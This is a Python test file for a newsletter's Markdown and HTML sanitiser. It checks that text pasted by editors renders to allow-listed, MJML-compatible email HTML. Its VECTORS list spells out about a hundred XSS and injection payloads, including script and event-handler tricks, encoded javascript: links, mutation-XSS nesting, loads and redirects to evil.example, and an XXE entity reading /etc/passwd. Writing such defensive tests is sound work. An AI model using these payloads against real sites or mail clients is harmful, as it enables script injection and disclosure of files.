"""Nothing that an editor pastes does anything in a reader's mail program, or breaks the mail."""

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html
from mjml import mjml2html

from newsletter.content.body.markdown import Body, HtmlBlock, ImageBlock, LinkBase, render_body
from newsletter.content.body.sanitising import email_html

BASE = LinkBase(site_url="https://example.org", path="content/news/title.md")

TAGS = frozenset(
    {"p", "br", "a", "strong", "em", "del", "sub", "sup", "ul", "ol", "li", "blockquote", "code", "pre", "hr"}
    | {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
)
ATTRIBUTES = frozenset({"href", "title", "start", "align", "scope", "colspan", "class"})
SCHEMES = ("https://", "http://", "mailto:", "tel:")

#: Each tries to run something, to load something, or to leave its place: in Markdown and in HTML.
VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=data:,alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button><input type=image src=x onerror=alert(1)></form>",
    "<form><input name=attributes><form><button formaction=javascript:alert(1)>x",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="x" style="behavior:url(x)" alt="a" srcset="https://evil.example/x 2x">',
    "<image src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(2)' ONFOCUS=alert(3) autofocus tabindex=1>x</p>",
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<p style="width:expression(alert(1));-moz-binding:url(x)">x</p>',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=https://a.example><b></iframe><script>alert(1)</script>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=javascript:alert(1) autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><style></caption><img src=x onerror=alert(1)></table>",
    "<table background=javascript:alert(1)><td background=x>y</table>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="ｊavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example\\@example.org">x</a>',
    '<a href="https://slot.invalid/unsubscribe/">x</a>',
    '<a href="https://example.org/" target=_blank rel=opener ping=https://evil.example/ download>x</a>',
    "<a href=https://example.org/><a href=javascript:alert(1)>nested</a></a>",
    "<a title='</a><script>alert(1)</script>' href=/x>x</a>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--[if gte mso 9]><v:rect fill><![endif]-->text",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![if !mso]><b>x</b><![endif]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<p>a</p></td></tr></table></div></mj-text><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' /><mj-button href='javascript:alert(1)'>x</mj-button>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    '[x](JaVaScRiPt:alert(1) "t")',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x.png)',
    '[x](/a "t\\" onmouseover=\\"alert(1)")',
    '[x](https://example.org/"onclick="alert(1))',
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [y](javascript:x) |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "Café > Bar, 5 € > 4 €, „Zitat“> x",
    "❤\ufe0f e\u0301 \u00ad \u200d \u202ereversed \U0001f9d1\u200d\U0001f692",
)


def written(body: Body) -> list[str]:
    html = [block.html for block in body.blocks if isinstance(block, HtmlBlock)]
    return html + [block.caption_html for block in body.blocks if isinstance(block, ImageBlock)]


def assert_harmless(tag: object, attributes: dict[str, str]) -> None:
    assert isinstance(tag, str), f"a comment or an instruction: {tag}"
    assert tag.rpartition("}")[2] in TAGS, tag
    assert attributes.keys() <= ATTRIBUTES, attributes
    assert attributes.get("class", "data") in {"data", "data whole"}
    assert attributes.get("href", "https://").startswith(SCHEMES), attributes


def assert_safe(html: str) -> None:
    """As two parsers see it: one as old as mail programs, one as browsers are."""
    for element in lxml_html.fragment_fromstring(html, create_parent="article").iterdescendants():
        assert_harmless(element.tag, {str(name): str(value) for name, value in element.attrib.items()})
    for element in html5lib.parseFragment(html, treebuilder="etree").iter():
        if element.tag != "DOCUMENT_FRAGMENT":
            assert_harmless(element.tag, element.attrib)


def assert_mjml_takes(html: str) -> None:
    # Numeric references for what is not ASCII, as the rendering stage writes them.
    ascii_html = html.encode("ascii", "xmlcharrefreplace").decode()
    mail = f"<mjml><mj-body><mj-section><mj-column><mj-text>{ascii_html}</mj-text></mj-column></mj-section></mj-body></mjml>"

    assert "</html>" in mjml2html(mail, fonts={})


@pytest.mark.parametrize("is_html", [False, True], ids=["markdown", "html"])
@pytest.mark.parametrize("vector", VECTORS)
def test_w_34_nothing_hostile_survives(vector: str, is_html: bool) -> None:
    body = render_body(f"Before {vector} after\n\n{vector}\n", base=BASE, is_html=is_html)

    for html in written(body):
        assert_safe(html)
        assert_mjml_takes(html)
        assert email_html(html) == html


@pytest.mark.parametrize("is_html", [False, True], ids=["markdown", "html"])
@pytest.mark.parametrize("vector", VECTORS)
def test_pictures_come_from_the_project_or_the_web(vector: str, is_html: bool) -> None:
    body = render_body(vector, base=BASE, is_html=is_html)

    for block in body.blocks:
        if isinstance(block, ImageBlock):
            assert block.source.startswith(("https://", "http://", "content/"))
            assert block.link is None or block.link.startswith(SCHEMES)


def test_w_34_comments_are_stripped() -> None:
    body = render_body("a <!-- secret --> b\n\n<!-- TODO\n\nask -->\n\n<!--[if mso]>x<![endif]-->", base=BASE)

    assert written(body) == ["<p>a  b</p>"]


_PIECES = st.sampled_from(
    (
        *VECTORS,
        *(
            "\n",
            "\n\n",
            " ",
            "    ",
            "> ",
            "- ",
            "1. ",
            "# ",
            "| a | b |\n|---|---|\n| c | d |\n",
            "***",
            "```\n",
        ),
        *("**", "_", "~~", "`", "[", "](", ")", "![", "<", ">", "&", '"', "'", "\\", "{", "}", "<b>", "</b>"),
        *(
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            "<td>",
            "<li>",
            "<ul>",
            "<a href=x>",
            "</a>",
            "<pre>\n",
            "é",
            "€",
            "\u00a0",
        ),
    )
)
_TEXTS = st.lists(_PIECES | st.text(max_size=12), max_size=12).map("".join)


@settings(max_examples=150)
@given(text=_TEXTS, is_html=st.booleans())
def test_w_34_whatever_is_written_makes_safe_html_that_mjml_takes(text: str, is_html: bool) -> None:
    body = render_body(text, base=BASE, is_html=is_html)

    for html in written(body):
        assert_safe(html)
        assert_mjml_takes(html)


@settings(max_examples=150)
@given(text=_TEXTS, is_html=st.booleans())
def test_w_34_the_last_wall_finds_nothing_left_to_do(text: str, is_html: bool) -> None:
    for html in written(render_body(text, base=BASE, is_html=is_html)):
        assert email_html(html) == html
